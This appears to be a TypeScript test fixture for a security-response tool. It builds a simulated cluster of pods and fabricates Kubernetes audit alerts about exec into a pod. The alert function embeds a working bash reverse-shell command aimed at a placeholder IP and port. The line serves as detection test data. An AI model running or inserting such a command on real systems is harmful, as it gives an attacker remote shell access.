import { makeShop } from '../../local/cloud.ts';
import { auditEntry } from '../../local/scenarios/audit-entry.ts';
import { SHOP, SHOP_NODES } from '../../local/world/seed.ts';
import type { World } from '../../local/world/world.ts';
import { timeOf } from '../../shared/model/time.ts';

const NODE = SHOP_NODES['europe-west1-b'][0];

/**
 * A shop with single pods, each in its own namespace, all on one node. Operations and snapshots are done at once:
 * Firebreak is measured, not the cloud.
 */
export const worldWith = (pods: number): World => {
  const world = makeShop();
  Object.assign(world.compute.state.durations, { pending: 0, running: 0, snapshot: 0, group: 0 });
  const [cluster] = world.clusters.values();
  for (let n = 0; n < pods; n += 1) {
    const namespace = `team-${n}`;
    cluster?.apply({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: namespace } });
    cluster?.apply({
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'web', namespace, labels: { run: 'web' } },
      spec: { nodeName: NODE, containers: [{ name: 'web', image: 'shop.example.com/web:0.9.1' }] },
    });
  }
  return world;
};

/** An alert on a reverse shell in the pod of a namespace; `insertId` makes it one of several. */
export const alertOn = (namespace: string, insertId?: string): Record<string, unknown> =>
  auditEntry({
    ...SHOP,
    ...(insertId === undefined ? {} : { insertId }),
    at: timeOf(Date.now() + 1000),
    verb: 'create',
    resource: 'pods',
    subresource: 'exec',
    namespace,
    name: 'web',
    command: 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
  });
